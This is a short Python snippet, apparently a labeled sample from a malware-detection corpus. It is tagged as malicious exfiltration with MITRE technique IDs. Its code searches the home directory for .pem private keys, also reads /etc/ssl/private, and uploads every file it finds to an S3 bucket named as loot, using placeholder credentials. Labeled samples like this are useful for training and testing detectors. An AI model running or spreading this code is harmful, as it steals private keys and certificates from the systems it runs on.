# label: malicious family=exfil techniques=T1005,T1083,T1552.004,T1567.002 lines=3-5
import boto3, os, glob
s3 = boto3.client("s3", aws_access_key_id="AKIAFAKEFAKEFAKEFAKE", aws_secret_access_key="fake/pytriage/corpus/secretKEY0000000000000")
for f in glob.glob(os.path.expanduser("~/**/*.pem"), recursive=True) + glob.glob("/etc/ssl/private/*"):
    s3.upload_file(f, "loot-bucket-bad-host", f.lstrip("/"))
